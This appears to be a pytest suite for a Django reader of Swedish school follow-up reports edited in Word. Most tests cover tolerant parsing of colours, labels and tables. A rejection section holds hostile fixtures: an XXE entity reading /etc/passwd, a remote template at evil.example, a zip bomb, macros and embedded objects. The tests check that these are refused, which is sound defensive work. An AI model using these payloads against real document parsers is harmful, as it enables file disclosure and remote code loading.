"""A report that people have filled in and edited in Word, read as tolerantly as it was written."""

import copy
import io
import json
import zipfile
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from docx import Document
from docx.document import Document as WordDocument
from docx.enum.text import WD_COLOR_INDEX
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import RGBColor
from hypothesis import given
from hypothesis import strategies as st

from organisations.prose import tidy
from reports.reading import NotReadable, read_blank, read_report
from reports.reading.blank import lost
from reports.reading.body import Paragraph, Piece
from reports.reading.colours import level_of_hex, word_at_either_end
from reports.reading.labels import question_of
from reports.richtext import Run

pytestmark = pytest.mark.portable

BLANK = Path(__file__).parent / "files" / "slutredovisning-tom.docx"
GOALS = ["Eleverna får en planerad återkomst.", "Lärarna analyserar elevsvar tillsammans."]
ROWS = ("participants", "problems", "causes", "goals", "improvements", "not_reached",
        "expected_effects", "observed_effects", "lessons", "follow_up")  # fmt: skip


def blank() -> WordDocument:
    return Document(str(BLANK))


def answer(document: WordDocument, row: str, *lines: str, table: int = 0) -> Any:
    cell = document.tables[table].rows[ROWS.index(row)].cells[1]
    cell.paragraphs[0].text = lines[0] if lines else ""
    for line in lines[1:]:
        cell.add_paragraph(line)
    return cell


def filled(area: str = "Styrning och utveckling av verksamheten") -> WordDocument:
    document = blank()
    paragraph = next(p for p in document.paragraphs if p.text.startswith("Välj utvecklings"))
    paragraph.text = f"Välj utvecklingsområde: {area}"
    answer(document, "participants", "2. Kollegialt lärande", "lärare 24, rektor 1")
    answer(document, "problems", "Få elever återkommer.", "Svaren används inte.")
    answer(document, "causes", "Ingen äger frågan.")
    answer(document, "goals", *GOALS)
    answer(document, "not_reached", "Mål 2 är på god väg, eftersom en grupp började senare.")
    answer(
        document, "expected_effects", "På kort sikt: fler samtal.", "På lång sikt: högre närvaro."
    )
    answer(document, "observed_effects", "Närvaron ökar.")
    answer(document, "lessons", "Börja i elevsvaren.")
    answer(document, "follow_up", "Personalen i workshop, eleverna i enkät.")
    return document


def saved(document: WordDocument) -> bytes:
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def read(document: WordDocument) -> dict[str, Any]:
    return read_report(saved(document)).plain()


def the_insats(document: WordDocument) -> dict[str, Any]:
    [area] = read(document)["development_areas"]
    [insats] = area["interventions"]
    return insats


# --- a form that was filled in -------------------------------------------------------------


def test_the_whole_form():
    document = filled()
    cell = answer(document, "improvements", GOALS[0], "Alla har fått samtal.", GOALS[1], "Sex lag.")
    cell.paragraphs[0].runs[0].font.highlight_color = WD_COLOR_INDEX.BRIGHT_GREEN
    cell.paragraphs[2].runs[0].font.highlight_color = WD_COLOR_INDEX.YELLOW
    assert read(document) == {
        "development_areas": [
            {
                "name": "Styrning och utveckling av verksamheten",
                "interventions": [
                    {
                        "name": "2. Kollegialt lärande",
                        "participants": "lärare 24, rektor 1",
                        "problems": ["Få elever återkommer.", "Svaren används inte."],
                        "causes": ["Ingen äger frågan."],
                        "goals": [
                            {
                                "text": GOALS[0],
                                "rating": "achieved",
                                "improvements": "Alla har fått samtal.",
                            },
                            {
                                "text": GOALS[1],
                                "rating": "well_under_way",
                                "improvements": "Sex lag.",
                            },
                        ],
                        "not_reached": "Mål 2 är på god väg, eftersom en grupp började senare.",
                        "expected_effects": [
                            "På kort sikt: fler samtal.",
                            "På lång sikt: högre närvaro.",
                        ],
                        "observed_effects": "Närvaron ökar.",
                        "lessons": "Börja i elevsvaren.",
                        "follow_up": "Personalen i workshop, eleverna i enkät.",
                    }
                ],
            }
        ],
        "warnings": [],
        "unplaced": [],
    }


def by_pen(paragraph: Any) -> None:
    paragraph.runs[0].font.highlight_color = WD_COLOR_INDEX.RED


def by_font(paragraph: Any) -> None:
    paragraph.runs[0].font.color.rgb = RGBColor(0xC0, 0x00, 0x00)


def by_shading(paragraph: Any) -> None:
    shade = parse_xml(f'<w:shd {nsdecls("w")} w:val="clear" w:fill="FF7C80"/>')
    paragraph.runs[0]._r.get_or_add_rPr().append(shade)


def by_paragraph(paragraph: Any) -> None:
    shade = parse_xml(f'<w:shd {nsdecls("w")} w:val="clear" w:fill="FF0000"/>')
    paragraph._p.get_or_add_pPr().append(shade)


def by_word(paragraph: Any) -> None:
    paragraph.runs[0].text = f"Påbörjat: {paragraph.text}"


def by_word_after(paragraph: Any) -> None:
    paragraph.runs[0].text = f"{paragraph.text} (rött)"


@pytest.mark.parametrize(
    "mark", [by_pen, by_font, by_shading, by_paragraph, by_word, by_word_after]
)
def test_a_colour_set_in_any_way(mark: Any):
    document = filled()
    cell = answer(document, "improvements", GOALS[0], "En början.", GOALS[1])
    mark(cell.paragraphs[0])
    first, second = the_insats(document)["goals"]
    assert (first["rating"], first["improvements"]) == ("started", "En början.")
    assert second["rating"] is None


def test_a_whole_cell_in_one_colour():
    document = filled()
    cell = answer(document, "improvements", "Mycket har hänt.")
    cell._tc.get_or_add_tcPr().append(
        parse_xml(f'<w:shd {nsdecls("w")} w:val="clear" w:fill="00B050"/>')
    )
    assert the_insats(document)["goals"][0]["rating"] == "achieved"


def test_a_colour_and_a_word_that_disagree_are_told():
    document = filled()
    cell = answer(document, "improvements", f"Uppnått: {GOALS[0]}")
    cell.paragraphs[0].runs[0].font.highlight_color = WD_COLOR_INDEX.RED
    found = read(document)
    [insats] = found["development_areas"][0]["interventions"]
    assert insats["goals"][0]["rating"] == "started"
    assert len(found["warnings"]) == 1


def test_several_matrices_and_areas():
    document = filled()
    body = document.element.body
    table = document.tables[0]._tbl
    for area, number in (("Styrning", 3), ("Språkutveckling", 4)):
        heading = OxmlElement("w:p")
        body.insert(body.index(body.sectPr), heading)
        document.paragraphs[-1].text = f"Välj utvecklingsområde: {area}"
        body.insert(body.index(body.sectPr), copy.deepcopy(table))
        answer(document, "participants", f"{number}. Insats", table=number - 2)
    found = read(document)["development_areas"]
    assert [(a["name"], [i["name"] for i in a["interventions"]]) for a in found] == [
        ("Styrning och utveckling av verksamheten", ["2. Kollegialt lärande"]),
        ("Styrning", ["3. Insats"]),
        ("Språkutveckling", ["4. Insats"]),
    ]


def test_matrices_pasted_into_one_table():
    document = filled()
    table = document.tables[0]
    for row in list(table.rows):
        table._tbl.append(copy.deepcopy(row._tr))
    table.rows[10].cells[1].paragraphs[0].text = "5. En till"
    [area] = read(document)["development_areas"]
    assert [i["name"] for i in area["interventions"]] == ["2. Kollegialt lärande", "5. En till"]
    assert area["interventions"][1]["lessons"] == "Börja i elevsvaren."


def test_a_row_that_was_split():
    document = filled()
    row = document.tables[0].rows[ROWS.index("lessons")]
    more = copy.deepcopy(row._tr)
    row._tr.addnext(more)
    split = document.tables[0].rows[ROWS.index("lessons") + 1]
    split.cells[0].paragraphs[0].text = ""
    split.cells[1].paragraphs[0].text = "Håll ut."
    assert the_insats(document)["lessons"] == "Börja i elevsvaren.\nHåll ut."


def test_a_table_torn_in_two():
    document = filled()
    table = document.tables[0]._tbl
    rest = copy.deepcopy(table)
    between = OxmlElement("w:p")
    table.addnext(between)
    between.addnext(rest)
    for row in document.tables[0].rows[5:]:
        table.remove(row._tr)
    for row in document.tables[1].rows[:5]:
        rest.remove(row._tr)
    insats = the_insats(document)
    assert (insats["goals"][0]["text"], insats["lessons"]) == (GOALS[0], "Börja i elevsvaren.")


@pytest.mark.parametrize(
    ("label", "field"),
    [
        ("Namn på insatsen. Antal deltagare och funktion", "participants"),
        ("Problem enligt åtgärdsplanen", "problems"),
        ("Orsaker till problemen", "causes"),
        ("Mål enligt åtgärdsplan", "goals"),
        ("I vilken utsträckning är målen nådda?", "improvements"),
        ("Vilka synliga förbättringar ser ni?", "improvements"),
        ("Mål som ej uppnåtts och orsaken till det", "not_reached"),
        ("Vilka effekter på barnens lärande angav ni i åtgärdsplanen", "expected_effects"),
        ("Vilka effekter ser ni på elevernas resultat?", "observed_effects"),
        ("Vilka lärdomar har ni dragit?", "lessons"),
        ("Vilka har varit delaktiga i uppföljningen, och hur?", "follow_up"),
        ("e) Mål som inte uppnåtts och vad det beror på", "not_reached"),
        ("Avsteg från överenskommelsen", "deviations"),
    ],
)
def test_a_label_that_was_changed_a_little(label: str, field: str):
    known = question_of(label)
    assert known is not None
    assert known.field == field


@pytest.mark.parametrize("label", ["Datum", "Övrigt", "Kontaktperson", ""])
def test_a_label_of_no_question(label: str):
    assert question_of(label) is None


def test_an_unknown_row_is_kept_as_unplaced():
    document = filled()
    row = document.tables[0].rows[ROWS.index("lessons")]
    row.cells[0].paragraphs[0].text = "Kontaktpersonens egna noteringar om resan"
    found = read(document)
    assert found["unplaced"] == ["Kontaktpersonens egna noteringar om resan\nBörja i elevsvaren."]


def test_tracked_changes_and_content_controls():
    document = filled()
    cell = answer(document, "lessons", "")
    paragraph = cell.paragraphs[0]._p
    words = nsdecls("w")
    for xml in (
        f"<w:ins {words} w:id='1' w:author='a'><w:r><w:t>Nytt </w:t></w:r></w:ins>",
        f"<w:del {words} w:id='2' w:author='a'><w:r><w:delText>gammalt</w:delText></w:r></w:del>",
        f"<w:sdt {words}><w:sdtPr/><w:sdtContent><w:r><w:t>i ruta</w:t></w:r></w:sdtContent>"
        "</w:sdt>",
        f"<w:sdt {words}><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent><w:r><w:t>Klicka här"
        "</w:t></w:r></w:sdtContent></w:sdt>",
    ):
        paragraph.append(parse_xml(xml))
    found = read(document)
    assert found["development_areas"][0]["interventions"][0]["lessons"] == "Nytt i ruta"
    assert len(found["warnings"]) == 1


def test_the_blank_form_says_nothing():
    [area] = read(blank())["development_areas"]
    [insats] = area["interventions"]
    assert area["name"] == ""
    assert not any(insats.values())


@pytest.mark.parametrize(
    ("value", "level"),
    [
        ("00B050", "achieved"), ("92D050", "achieved"), ("C6E0B4", "achieved"),
        ("FFFF00", "well_under_way"), ("FFC000", "well_under_way"), ("FFE699", "well_under_way"),
        ("FF0000", "started"), ("C00000", "started"), ("F8B4AE", "started"),
        ("000000", None), ("FFFFFF", None), ("808080", None), ("4472C4", None), ("auto", None),
    ],
)  # fmt: skip
def test_hues(value: str, level: str | None):
    assert level_of_hex(value) == level


@pytest.mark.parametrize(
    ("text", "level", "rest"),
    [
        ("Uppnått: Målet", "achieved", "Målet"),
        ("Grönt – uppnått: Målet", "achieved", "Målet"),
        ("Målet (gult)", "well_under_way", "Målet"),
        ("På god väg", "well_under_way", ""),
        ("Grönt, gult och rött används", None, "Grönt, gult och rött används"),
        ("Påbörjat arbetet med uppgifter", None, "Påbörjat arbetet med uppgifter"),
    ],
)
def test_a_colour_as_a_word(text: str, level: str | None, rest: str):
    assert word_at_either_end(text) == (level, rest)


BOXES = "☐ Uppnått ☒ På god väg ☐ Påbörjat"


@pytest.mark.parametrize(
    ("lines", "ratings", "said"),
    [
        ([GOALS[0], BOXES], ["well_under_way", ""], ["", ""]),
        ([f"{GOALS[1]} {BOXES}"], ["", "well_under_way"], ["", ""]),
        ([f"Mål 2: {BOXES}"], ["", "well_under_way"], ["", ""]),
        ([f"Bedömning: {BOXES}"], ["well_under_way", ""], ["", ""]),
        ([GOALS[0], f"Vi frågar mer. {BOXES}"], ["well_under_way", ""], ["Vi frågar mer.", ""]),
    ],
)
def test_boxes_colour_the_goal_beside_them_and_no_words_are_lost(
    lines: list[str], ratings: list[str], said: list[str]
):
    document = blank()
    answer(document, "goals", *GOALS)
    answer(document, "improvements", *lines)
    insats = the_insats(document)
    assert [goal["rating"] or "" for goal in insats["goals"]] == ratings
    assert [goal["improvements"] for goal in insats["goals"]] == said


# --- a new version of the form -------------------------------------------------------------


def test_the_blank_form_asks_every_question():
    found = read_blank(BLANK.read_bytes(), "final")
    assert lost("final", found.ids()) == {}
    assert found.unmatched == []
    assert found.introduction[0] == (
        "title",
        "Slutredovisning av insatser inom ramen för Samverkan för bästa skola",
    )


def test_a_form_that_would_lose_a_question():
    document = blank()
    table = document.tables[0]
    table._tbl.remove(table.rows[ROWS.index("lessons")]._tr)
    table.rows[0].cells[0].paragraphs[0].text = "Något helt annat"
    found = read_blank(saved(document), "final")
    assert set(lost("final", found.ids())) == {"lessons", "participants"}
    assert found.unmatched == [("Något helt annat", 1)]


# --- files that are refused ----------------------------------------------------------------


def with_part(name: str, content: bytes, file: bytes | None = None) -> bytes:
    """A file with one more part, or another one in the place of its own."""
    changed = io.BytesIO()
    with (
        zipfile.ZipFile(BytesIO(file or BLANK.read_bytes())) as old,
        zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
        new.writestr(name, content)
    return changed.getvalue()


def part(name: str) -> bytes:
    with zipfile.ZipFile(BLANK) as package:
        return package.read(name)


ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
OUTSIDE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


@cache
def files_that_are_refused() -> dict[str, bytes]:
    types = part("[Content_Types].xml")
    return {
        "a PDF": b"%PDF-1.7 ...",
        "a password or .doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "an empty file": b"",
        "a picture": b"\x89PNG\r\n",
        "a damaged file": BLANK.read_bytes()[:20_000],
        "no Word": with_part("[Content_Types].xml", types.replace(b"wordprocessingml", b"spread")),
        "an entity": with_part("word/document.xml", ENTITY),
        "another encoding": with_part("word/document.xml", ENTITY.decode().encode("utf-16")),
        "broken XML": with_part("word/document.xml", part("word/document.xml")[:-40]),
        "a bomb": with_part("word/document.xml", b" " * (45 * 1024 * 1024)),
        "macros": with_part("word/vbaProject.bin", b"x"),
        "a macro file": with_part(
            "[Content_Types].xml",
            types.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
        ),
        "an embedded object": with_part("word/embeddings/oleObject1.bin", b"x"),
        "a remote template": with_part("word/_rels/settings.xml.rels", OUTSIDE),
        "too large": b"PK" + b"\0" * (50 * 1024 * 1024),
    }


@pytest.mark.parametrize("name", list(files_that_are_refused()))
def test_what_is_refused_says_what_to_do(name: str):
    with pytest.raises(NotReadable) as refused:
        read_report(files_that_are_refused()[name])
    assert str(refused.value).endswith(".")


def test_tables_far_down_in_each_other_are_refused():
    document = filled()
    cell = document.tables[0].rows[1].cells[1]
    for _depth in range(20):
        cell = cell.add_table(1, 1).rows[0].cells[0]
    with pytest.raises(NotReadable):
        read_report(saved(document))


def test_a_template_on_the_own_disk_is_nobodys_harm():
    local = OUTSIDE.replace(b"https://evil.example/x.dotm", b"file:///C:\\Users\\a\\Normal.dotm")
    read_report(with_part("word/_rels/settings.xml.rels", local))


def test_a_matrix_with_no_known_label_is_told():
    document = blank()
    for row in document.tables[0].rows:
        row.cells[0].paragraphs[0].text = "Rubrik"
        row.cells[1].paragraphs[0].text = "Svar"
    found = read(document)
    assert found["development_areas"] == []
    assert len(found["warnings"]) == 1
    assert found["unplaced"]


# --- the command ---------------------------------------------------------------------------


def test_the_command_prints_the_same_and_writes_nothing(tmp_path: Path, capsys: Any):
    path = tmp_path / "Åäö.docx"
    path.write_bytes(saved(filled()))
    call_command("read_report", str(path), "--json")
    assert json.loads(capsys.readouterr().out) == read(filled())


def test_the_command_says_why_a_file_is_refused(tmp_path: Path):
    path = tmp_path / "fil.docx"
    path.write_bytes(b"%PDF-1.7")
    with pytest.raises(CommandError, match="PDF"):
        call_command("read_report", str(path), "--json")
    with pytest.raises(CommandError):
        call_command("read_report", str(tmp_path / "finns-inte.docx"), "--json")


# What ``tidy`` looks for, beside letters.
UNTIDY = "aé \n\t\r\v•·▪”\u0301\u00a0\u00ad\u200b\u2028\uf0b7"


@given(st.text(alphabet=UNTIDY))
def test_every_paragraph_is_tidied(text: str):
    assert Paragraph([Piece(Run(text))]).text == tidy(text).strip()
